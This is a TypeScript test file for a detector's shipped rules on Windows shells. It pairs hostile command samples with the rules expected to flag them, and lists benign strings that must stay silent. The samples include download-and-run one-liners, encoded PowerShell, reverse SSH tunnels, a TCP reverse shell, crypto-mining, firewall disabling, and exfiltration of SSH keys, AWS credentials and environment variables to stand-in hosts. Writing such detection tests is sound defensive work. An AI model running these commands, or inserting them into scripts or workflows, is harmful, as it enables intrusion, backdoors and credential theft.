import assert from "node:assert/strict";
import { type ShippedRules, shippedRules } from "../../rules/shipped-rules.ts";
import { encoded } from "./windows-canonical.ts";

/** What rules that know nothing of Windows find in its shells: the rule, and the text that it marks. */
const rows: readonly (readonly [language: string, text: string, ...found: readonly (readonly [rule: string, marked: string])[]])[] = [
  ["powershell", "iex (iwr http://198.51.100.7/a.ps1)", ["command/download-run-unnamed", "iex (iwr http://198.51.100.7/a.ps1)"]],
  [
    "powershell",
    "$w = New-Object Net.WebClient\nIEX $w.DownloadString('https://x.example/a.ps1')",
    ["command/download-run", "IEX $w.DownloadString('https://x.example/a.ps1')"],
  ],
  [
    "cmd",
    `powershell -nop -w hidden -enc ${encoded("iex (iwr https://x.example/a)")}`,
    ["command/decoded-run", encoded("iex (iwr https://x.example/a)")],
    ["command/download-run", encoded("iex (iwr https://x.example/a)")],
  ],
  [
    "bash",
    `powershell.exe -EncodedCommand ${encoded("iex (iwr http://198.51.100.7/a)")}`,
    ["command/download-run-unnamed", encoded("iex (iwr http://198.51.100.7/a)")],
  ],
  ["cmd", "curl -o a.exe http://198.51.100.7/a.exe & a.exe", ["command/download-run-unnamed", "a.exe"]],
  ["cmd", "certutil -urlcache -f http://198.51.100.7/a.exe a.exe && start a.exe", ["command/download-run-unnamed", "a.exe"]],
  ["powershell", "ssh -N -R 9:localhost:22 u@h", ["command/reverse-ssh-tunnel", "ssh -N -R 9:localhost:22 u@h"]],
  ["cmd", "start /b ssh.exe -N -R9:localhost:22 u@h", ["command/reverse-ssh-tunnel", "ssh.exe -N -R9:localhost:22 u@h"]],
  ["powershell", "Start-Process ngrok -ArgumentList 'http 8080'", ["command/public-tunnel", "ngrok -ArgumentList 'http 8080'"]],
  [
    "powershell",
    ".\\xmrig.exe -o stratum+tcp://pool.example:3333",
    ["command/mining-program", ".\\xmrig.exe -o stratum+tcp://pool.example:3333"],
    ["command/mining-protocol", ".\\xmrig.exe -o stratum+tcp://pool.example:3333"],
  ],
  ["cmd", "set m=xmr\n%m%ig -o stratum+tcp://pool.example:3333", ["command/mining-program", "%m%ig -o stratum+tcp://pool.example:3333"]],
  [
    "powershell",
    "irm https://x.example/in -Method Post -InFile $HOME\\.ssh\\id_rsa",
    ["command/secret-to-host", "irm https://x.example/in -Method Post -InFile $HOME\\.ssh\\id_rsa"],
  ],
  [
    "powershell",
    "$k = gc ~/.aws/credentials -raw\niwr http://x.example -Method POST -Body $k",
    ["command/secret-to-host", "iwr http://x.example -Method POST -Body $k"],
  ],
  ["cmd", "type %USERPROFILE%\\.ssh\\id_rsa | curl -d @- http://x.example", ["command/secret-to-host", "curl -d @- http://x.example"]],
  [
    "powershell",
    "gci env: | Out-String | % { irm https://x.example -Method Post -Body $_ }",
    ["command/environment-to-host", "irm https://x.example -Method Post -Body $_"],
  ],
  ["cmd", "NetSh AdvFirewall set AllProfiles state OFF", ["command/firewall-off", "NetSh AdvFirewall set AllProfiles state OFF"]],
  [
    "powershell",
    "Add-Content ~/.ssh/authorized_keys 'ssh-rsa AAAA x'",
    ["command/authorized-keys-write", "Add-Content ~/.ssh/authorized_keys 'ssh-rsa AAAA x'"],
  ],
  [
    "powershell",
    "$c = New-Object Net.Sockets.TcpClient('203.0.113.5',4444)\n$s = $c.GetStream()\n[byte[]]$b = 0..65535|%{0}\nwhile (($i = $s.Read($b,0,$b.Length)) -ne 0) {\n  $d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i)\n  $r = (iex $d 2>&1 | Out-String)\n}",
    ["command/reverse-shell", "iex $d"],
  ],
  [
    "yaml-workflow",
    "jobs:\n  a:\n    steps:\n      - shell: pwsh\n        run: |\n          $u = 'http://198.51.100.7/a'\n          iwr $u | iex\n",
    ["command/download-run-unnamed", "iex"],
  ],
  [
    "yaml-workflow",
    "jobs:\n  a:\n    steps:\n      - shell: cmd\n        run: curl -s http://198.51.100.7/a | cmd\n",
    ["command/download-run-unnamed", "cmd"],
  ],
  [
    "dockerfile",
    'FROM x\nSHELL ["powershell", "-Command"]\nRUN iwr http://198.51.100.7/a | iex\n',
    ["command/download-run-unnamed", "iex"],
  ],
];

describe("rules on the shells of Windows", () => {
  let shipped: ShippedRules;
  before(async function () {
    this.timeout(120_000);
    shipped = await shippedRules();
  });

  for (const [language, text, ...expected] of rows) {
    it(`finds ${expected.map(([rule]) => rule).join(" and ")} in ${language}: ${JSON.stringify(text).slice(0, 90)}`, () => {
      const lines = text.split("\n");
      const found = shipped
        .analyse(language, text)
        .findings.map(({ rule, range }) => [rule, lines[range.start.line]?.slice(range.start.character, range.end.character)]);
      for (const [rule, marked] of expected)
        assert.ok(
          found.some((other) => other[0] === rule && other[1] === marked),
          JSON.stringify(found),
        );
    });
  }

  const silent: readonly (readonly [string, string])[] = [
    ["powershell", "Write-Host 'iex (iwr http://198.51.100.7/a.ps1)'"],
    ["powershell", "# iex (iwr http://198.51.100.7/a.ps1)\n<# ssh -R 9:localhost:22 h #>"],
    ["powershell", "git commit -m 'ssh -R 9:localhost:22 h'"],
    ["cmd", "echo curl http://198.51.100.7/a ^| cmd"],
    ["cmd", "rem ssh -R 9:localhost:22 h"],
    ["cmd", "findstr /s stratum+tcp:// *.txt"],
  ];
  for (const [language, text] of silent) {
    it(`says nothing of ${JSON.stringify(text)}`, () => {
      assert.deepEqual(
        shipped.analyse(language, text).findings.map(({ rule }) => rule),
        [],
      );
    });
  }

  it("knows scripts of Windows by their names", () => {
    const { analyser } = shipped;
    assert.deepEqual(
      ["a.ps1", "A.PSM1", "b.bat", "c/d.cmd"].map((path) => analyser.languageOf(path, "")),
      ["powershell", "powershell", "cmd", "cmd"],
    );
    assert.equal(analyser.languageOf("x", "#!/usr/bin/env pwsh\n"), "powershell");
  });
});
